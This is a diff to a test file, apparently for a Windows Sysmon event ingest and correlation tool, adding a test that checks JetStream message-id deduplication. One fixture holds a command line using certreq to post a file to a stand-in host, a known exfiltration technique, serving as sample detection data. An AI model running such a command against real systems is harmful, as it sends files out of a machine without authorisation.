@@ -15,6 +15,7 @@ import { storedKey } from '../../src/server/ingest.js';
 import { decodeDocument } from '../../src/formats/index.js';
 import { eventKey, type WinEvent } from '../../src/model/event.js';
 import { alertId } from '../../src/correlate/index.js';
+import { encodeBatches, messageId } from '../../src/distribute/codec.js';
 import { runCli, jsonLines } from '../helpers/cli.js';
 import { AUTH, TOKEN, json } from './support/http.js';
 import { benign, ndjson, sysmonProcessCreate } from './support/events.js';
@@ -158,4 +159,12 @@ test('start-up replay stores the alerts of stored events whose alert is missing 
       await srv.close();
     }
   }
+});
+
+test('JetStream message ids: an identical re-sent batch gets the same id, a batch with a look-alike event another one', () => {
+  const original = [decoded(sysmonProcessCreate({ recordId: 8, host: 'JS01' }))];
+  const lookAlike = [decoded(sysmonProcessCreate({ recordId: 8, host: 'JS01', commandLine: 'certreq -Post -config https://y.invalid/ c d' }))];
+  const id = (evs: WinEvent[]): string => messageId(encodeBatches(evs, 1 << 20)[0]!);
+  assert.equal(id(original), id([decoded(sysmonProcessCreate({ recordId: 8, host: 'JS01' }))]));
+  assert.notEqual(id(lookAlike), id(original));
 });
